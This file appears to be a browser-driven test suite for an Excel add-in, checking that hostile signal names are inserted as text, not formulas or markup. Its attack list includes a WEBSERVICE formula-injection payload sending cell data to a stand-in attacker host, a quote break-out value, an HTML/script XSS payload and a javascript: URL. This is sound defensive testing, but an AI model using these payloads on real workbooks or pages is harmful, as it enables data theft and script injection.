"""A catalogue of attacks: whatever a signal is called, it is shown as text and inserted as one text."""

import orjson
import pytest
from openpyxl.formula.tokenizer import Token, Tokenizer

from tests.addin.excel.parts.panes import Pane, opened
from tests.addin.excel.parts.stand_in import OFFICE

MARKUP = "<img src=http://evil.example/x onerror='window.hacked = 1'><script>window.hacked = 1</script>"
ATTACKS = [
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=A1",
    " =A1:B9",
    "'=A1",
    "+A1",
    "-A1",
    "@SUM(A1)",
    "＝1+1",
    '");WEBSERVICE("http://evil.example',
    '"&A1&"',
    "A1",
    "Sheet1!A1",
    "1234",
    "TRUE",
    "#REF!",
    "{1,2}",
    MARKUP,
    "javascript:window.hacked = 1",
    "\u202etsop\u202c \u200f\u2067",
    "\tline\nfeed\r",
    "😀" * 200,
    "x" * 10_000,
]
NAMES = ["slug", "shortcode", "name", "category", "unit", "source", "description", "is_premium"]


def catalogue() -> dict:
    """The answer to SIGNALS where every text of a signal is an attack; the place in the list tells them apart."""
    rows = [[text, "", f"{index:02d} {text}", text, text, text, text, False] for index, text in enumerate(ATTACKS)]
    columns = [{"type": "any", "values": list(values)} for values in zip(*rows, strict=True)]
    return {"rows": len(rows), "header": NAMES, "columns": columns, "fresh_s": 900}


async def answer(route) -> None:
    """Answer as a backend whose service is the attacker's."""
    calls = orjson.loads(route.request.post_data)["calls"]
    answers = [catalogue() if call[0] == "SIGNALS" else {"value": MARKUP, "fresh_s": 900} for call in calls]
    await route.fulfill(json={"answers": answers, "requests": 0, "quota": None, "generation": 1})


async def price(route) -> None:
    """Preview what anything costs: a request, whatever the real backend holds by now."""
    cost = {"requests": 1, "at_least": 1, "at_most": 1, "text": "1", "calls": 1, "fresh_calls": 0, "quota": None}
    await route.fulfill(json={**cost, "allowed": True, "reason": None})


@pytest.fixture
def sent() -> list:
    """Return the addresses that the page asks for."""
    return []


@pytest.fixture
def pane(chromium, sample_backend, sent):
    """Return the pane inside Excel, before a hostile service."""
    routes = {"**/functions/call*": answer, "**/functions/cost": price}
    with opened(chromium, sample_backend, office=OFFICE, height=900, routes=routes) as pane:
        pane.tab.hear("request", lambda request: sent.append(request.url))
        pane.press("Load the catalogue")
        pane.sees(f"{len(ATTACKS)} signals")
        yield pane
        assert pane.tab.evaluate("window.hacked") is None
        assert pane.tab.evaluate("document.querySelectorAll('main img, main script, main a[href*=evil]').length") == 0
        assert [url for url in sent if not url.startswith(f"{sample_backend.url}/")] == []


def open_signal(pane: Pane, index: int) -> None:
    pane.open_tab("Search")
    pane.tab.evaluate("(index) => document.querySelectorAll('[data-slug]')[index].click()", index)
    pane.sees("Formulas")


def written(pane: Pane) -> str:
    return pane.tab.evaluate("book.cell('Sheet1', 'A1').formula")


def formula_shown(pane: Pane) -> str:
    return pane.run(lambda page: page.locator(".wizard .formula code").text_content())


def texts_in(formula: str) -> list[str]:
    """The texts that a formula calls its function with; fails where it does anything else."""
    tokens = [token for token in Tokenizer(formula).items if token.type != Token.WSPACE]
    functions = [token.value for token in tokens if token.type == Token.FUNC and token.subtype == Token.OPEN]
    assert len(functions) == 1
    assert functions[0].startswith("DS.")
    assert {token.subtype for token in tokens if token.type == Token.OPERAND} <= {Token.TEXT}
    assert {token.value for token in tokens if token.type == Token.OP_IN} <= {"&"}
    pieces = [token.value[1:-1] for token in tokens if token.type == Token.OPERAND]
    # Excel counts the characters of UTF-16.
    assert all(len(piece.replace('""', '"').encode("utf-16-le")) // 2 <= 255 for piece in pieces)
    return [piece.replace('""', '"') for piece in pieces]


def test_a_card_inserts_the_slug_as_one_text(pane):
    for index, attack in enumerate(ATTACKS[:-1]):
        open_signal(pane, index)
        for button, rest in (("Insert Latest value", []), ("Insert Date of the value", ["observed_at"])):
            pane.tab.evaluate("book.put('Sheet1', 'A1', {})")
            pane.press(button)
            pane.until("book.cell('Sheet1', 'A1').formula")
            texts = texts_in(written(pane))
            assert ["".join(texts[: len(texts) - len(rest)]), *texts[len(texts) - len(rest) :]] == [attack, *rest]


def test_a_formula_longer_than_excel_accepts_is_not_inserted(pane):
    open_signal(pane, len(ATTACKS) - 1)
    pane.press("Insert Latest value")
    pane.sees("more than 8192 characters")


def test_the_form_that_a_card_opens_keeps_the_slug_as_text(pane):
    for index, attack in enumerate(ATTACKS[:18]):
        open_signal(pane, index)
        pane.press("All arguments")
        pane.sees("SIGNAL_HISTORY")
        assert [text.strip() for text in texts_in(formula_shown(pane))] == [attack.strip()]


def test_the_slugs_that_a_form_suggests_are_texts(pane):
    pane.open_tab("Insert")
    pane.press("SIGNAL The latest value")
    suggested = pane.tab.evaluate("[...document.querySelectorAll('datalist option')].map((each) => each.value)")
    assert len(suggested) == len(ATTACKS)
    for slug, attack in zip(suggested[:18], ATTACKS, strict=False):
        pane.type("slug", slug)
        assert [text.strip() for text in texts_in(formula_shown(pane))] == [attack.strip()]


def test_names_of_any_length_and_direction_leave_the_pane_usable(pane):
    for index in range(len(ATTACKS)):
        open_signal(pane, index)
        assert pane.tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
        pane.run(lambda page: page.locator(".formulas").wait_for())
        assert pane.tab.evaluate("document.querySelector('.formulas').getBoundingClientRect().y") < 2_000
    heights = pane.tab.evaluate("[...document.querySelectorAll('[data-slug]')].map((each) => each.clientHeight)")
    assert max(heights) < 200


def test_freezing_keeps_every_text_as_text_and_takes_no_format_from_the_service(pane):
    foreign = {"type": "FormattedNumber", "basicValue": 1, "numberFormat": '"paid "0'}
    for row, attack in enumerate(ATTACKS, start=2):
        put = "([address, cell]) => book.put('Sheet1', address, cell)"
        pane.tab.evaluate(put, [f"B{row}", {"formula": "=DS.WIRE()", "value": attack, "type": "String"}])
        pane.tab.evaluate(put, [f"C{row}", {"formula": "=DS.SIGNAL(1)", "value": 1, "type": "Double", "json": foreign}])
    pane.open_tab("Refresh")
    pane.press("Freeze sheet")
    pane.run(lambda page: page.get_by_role("dialog").get_by_role("button", name="Freeze").click())
    pane.sees("replaced by values")
    frozen = [pane.tab.evaluate(f"book.cell('Sheet1', 'B{row}').value") for row in range(2, len(ATTACKS) + 2)]
    assert frozen == [f"'{attack}" for attack in ATTACKS]
    assert pane.tab.evaluate("book.cell('Sheet1', 'C2').format") == "General"
